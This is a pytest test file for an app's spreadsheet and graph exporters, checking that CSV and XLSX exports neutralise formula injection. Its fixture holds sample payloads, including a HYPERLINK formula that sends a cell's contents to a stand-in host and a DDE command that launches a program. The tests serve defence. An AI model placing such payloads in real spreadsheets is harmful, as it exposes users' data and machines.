"""Committee and priorities as CSV and XLSX, the pursuit graph as GraphML and GEXF (no Qt).

Every file is opened with an independent reader (csv, openpyxl, networkx) and checked for
what a user would see: the right rows, typed numbers and dates, names in any script, and
text from a CRM that would run as a formula turned into plain text.
"""

from __future__ import annotations

import csv
import re
from datetime import date
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
from openpyxl import load_workbook

from consensus_app.core.interchange import check_document
from consensus_app.exporters.pursuit_data import DataFormat, export_graph, export_tables
from consensus_app.exporters.pursuit_tables import TableName
from consensus_app.exporters.spreadsheet_cells import neutralise
from consensus_app.storage.bulk_import import import_document
from consensus_app.storage.workspace import Workspace
from tests.conftest import minimal_document

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
PERSIAN = "داریوش رحیمی"
KOREAN = "최종혁"


def hostile_document() -> dict[str, Any]:
    """Acme with names and words as a careless (or hostile) CRM export might hold them."""
    document = minimal_document()
    account = document["accounts"][0]
    ceo, cfo, it = account["stakeholders"]
    ceo["name"] = KOREAN
    cfo.update(name=HYPERLINK, title="+1 555 0100")
    it.update(name=PERSIAN, title="@SUM(A1:A9)")
    cfo_member, it_member = account["pursuits"][0]["committee"]
    cfo_member.update(stance=-2, last_engaged="2026-10-02")
    it_member.update(evidence="-- said so in the steering meeting")
    account["priorities"] += [
        {"id": "p-3", "stakeholder": "s-it", "text": "\t=cmd|' /C calc'!A0", "importance": 5},
        {"id": "p-4", "stakeholder": "s-ceo", "text": "\r=1+1", "kind": "concern"},
        {"id": "p-5", "stakeholder": "s-cfo", "text": "Only for the other deal", "pursuit": "opp-2"},
    ]
    account["pursuits"].append({"id": "opp-2", "name": "Second deal", "committee": []})
    return document


@pytest.fixture
def pursuit_id(workspace: Workspace) -> int:
    import_document(workspace, check_document(hostile_document()))
    return next(p.id for p in workspace.repos.pursuits.list_where() if p.key == "opp-1")


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555", "'+1 555"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Lee Park", "Lee Park"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_evaluate_gets_a_quote(text: str, expected: str) -> None:
    assert neutralise(text) == expected


def test_the_committee_csv_opens_in_excel_with_every_member(
    workspace: Workspace, pursuit_id: int, tmp_path: Path
) -> None:
    out = export_tables(workspace, pursuit_id, tmp_path / "committee.csv", DataFormat.CSV)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    assert b"\r\n" in raw
    header, *rows = read_csv(out)
    assert header[:3] == ["Stakeholder ID", "Name", "Title"]
    by_key = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_key) == {"s-cfo", "s-it"}  # members only: the CEO is not on the committee
    assert by_key["s-it"]["Name"] == PERSIAN
    assert by_key["s-cfo"]["Reports to"] == KOREAN
    assert by_key["s-cfo"]["Approver"] == "TRUE" and by_key["s-it"]["Approver"] == "FALSE"
    assert by_key["s-cfo"]["Last engaged"] == "2026-10-02"


def test_formulas_in_a_csv_come_out_as_text_and_numbers_stay_numbers(
    workspace: Workspace, pursuit_id: int, tmp_path: Path
) -> None:
    header, *rows = read_csv(export_tables(workspace, pursuit_id, tmp_path / "c.csv", "csv"))
    cfo = dict(zip(header, next(r for r in rows if r[0] == "s-cfo"), strict=True))
    it = dict(zip(header, next(r for r in rows if r[0] == "s-it"), strict=True))
    assert cfo["Name"] == "'" + HYPERLINK
    assert cfo["Title"] == "'+1 555 0100"
    assert it["Title"] == "'@SUM(A1:A9)"
    assert it["Evidence"] == "'-- said so in the steering meeting"
    assert cfo["Stance"] == "-2"  # a genuine number is not text: no quote

    header, *rows = read_csv(
        export_tables(workspace, pursuit_id, tmp_path / "p.csv", "csv", [TableName.PRIORITIES])
    )
    texts = [row[header.index("Priority")] for row in rows]
    assert "'\t=cmd|' /C calc'!A0" in texts and "'\r=1+1" in texts
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_priorities_are_this_pursuits_and_account_wide_ones_most_important_first(
    workspace: Workspace, pursuit_id: int, tmp_path: Path
) -> None:
    out = export_tables(workspace, pursuit_id, tmp_path / "p.csv", "csv", [TableName.PRIORITIES])
    header, *rows = read_csv(out)
    col = {name: header.index(name) for name in header}
    assert "Only for the other deal" not in [r[col["Priority"]] for r in rows]
    it_rows = [r for r in rows if r[col["Stakeholder ID"]] == "s-it"]
    assert [r[col["Importance"]] for r in it_rows] == ["5", "3"]
    assert {r[col["Scope"]] for r in it_rows} == {"this pursuit", "account-wide"}
    ceo = next(r for r in rows if r[col["Stakeholder ID"]] == "s-ceo")
    assert ceo[col["On committee"]] == "FALSE" and ceo[col["Name"]] == KOREAN


def test_the_xlsx_has_a_filterable_sheet_per_table_with_typed_cells(
    workspace: Workspace, pursuit_id: int, tmp_path: Path
) -> None:
    out = export_tables(workspace, pursuit_id, tmp_path / "review.xlsx", DataFormat.XLSX)
    book = load_workbook(out)
    assert book.sheetnames == ["Committee", "Priorities", "Plan"]
    sheet = book["Committee"]
    header = [c.value for c in sheet[1]]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:P{sheet.max_row}"
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert set(rows) == {"s-cfo", "s-it"}
    cfo = rows["s-cfo"]
    assert cfo["Stance"] == -2 and isinstance(cfo["Stance"], int)  # a number, sortable and summable
    assert cfo["Influence"] == 3 and cfo["Approver"] is True
    assert cfo["Last engaged"].date() == date(2026, 10, 2)
    assert rows["s-it"]["Name"] == PERSIAN
    # Columns fit their contents: the long name column is wider than the approver column.
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["H"].width >= 8
    assert book.properties.title == "Acme Corp — Analytics platform"


def test_formulas_in_an_xlsx_are_text_and_a_negative_stance_stays_a_number(
    workspace: Workspace, pursuit_id: int, tmp_path: Path
) -> None:
    book = load_workbook(export_tables(workspace, pursuit_id, tmp_path / "r.xlsx", "xlsx"))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    texts = {c.value for c in cells if c.data_type == "s"}
    assert "'" + HYPERLINK in texts and "'+1 555 0100" in texts and "'@SUM(A1:A9)" in texts
    assert "'\t=cmd|' /C calc'!A0" in texts
    stance = book["Committee"]["I"]
    assert stance[0].value == "Stance"
    assert sorted(c.value for c in stance[1:]) == [-2, 1]
    assert all(c.data_type == "n" for c in stance[1:])


def test_one_table_in_an_xlsx_when_asked(workspace: Workspace, pursuit_id: int, tmp_path: Path) -> None:
    out = export_tables(workspace, pursuit_id, tmp_path / "p.xlsx", "xlsx", [TableName.PRIORITIES])
    book = load_workbook(out)
    assert book.sheetnames == ["Priorities"]
    keys = [row[0] for row in book["Priorities"].iter_rows(min_row=2, values_only=True)]
    assert len(keys) == 4  # p-1 to p-4; p-5 belongs to the other pursuit


@pytest.mark.parametrize(("fmt", "read"), [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_the_graph_loads_in_networkx_with_every_attribute_and_its_type(
    workspace: Workspace, pursuit_id: int, tmp_path: Path, fmt: str, read: Any
) -> None:
    graph = read(export_graph(workspace, pursuit_id, tmp_path / f"map.{fmt}", fmt))
    assert isinstance(graph, nx.MultiDiGraph)
    assert set(graph.nodes) == {"s-ceo", "s-cfo", "s-it"}
    cfo = graph.nodes["s-cfo"]
    expected = {
        "stakeholder_key": "s-cfo",
        "name": HYPERLINK,  # stored as it is: a graph file is not a spreadsheet
        "label": HYPERLINK,
        "title": "+1 555 0100",
        "function": "finance",
        "profile": "unknown",
        "profile_group": "unknown",
        "role": "economic_buyer",
        "approver": True,
        "stance": -2,
        "influence": 3,
        "last_engaged": "2026-10-02",
        "on_committee": True,
    }
    assert {k: cfo[k] for k in expected} == expected
    assert all(type(cfo[k]) is type(v) for k, v in expected.items())  # bool stays bool, int stays int
    ceo = graph.nodes["s-ceo"]
    assert ceo["name"] == KOREAN and ceo["on_committee"] is False and ceo["approver"] is False
    assert ceo["role"] == "" and "stance" not in ceo and "influence" not in ceo  # no fake 0
    assert graph.nodes["s-it"]["name"] == PERSIAN
    edges = {key: (u, v, data) for u, v, key, data in graph.edges(keys=True, data=True)}
    assert edges["r-1"][:2] == ("s-it", "s-cfo")
    assert edges["r-1"][2]["kind"] == "influences" and edges["r-1"][2]["strength"] == 3
    assert edges["r-1"][2]["directed"] is True
    reporting = [(u, v) for u, v, data in graph.edges(data=True) if data["kind"] == "reports_to"]
    assert sorted(reporting) == [("s-cfo", "s-ceo"), ("s-it", "s-cfo")]  # report → manager


def test_graphml_declares_only_types_every_reader_knows(
    workspace: Workspace, pursuit_id: int, tmp_path: Path
) -> None:
    text = export_graph(workspace, pursuit_id, tmp_path / "m.graphml", "graphml").read_text(encoding="utf-8")
    assert set(re.findall(r'attr\.type="(\w+)"', text)) == {"string", "long", "boolean"}
    assert "None" not in text
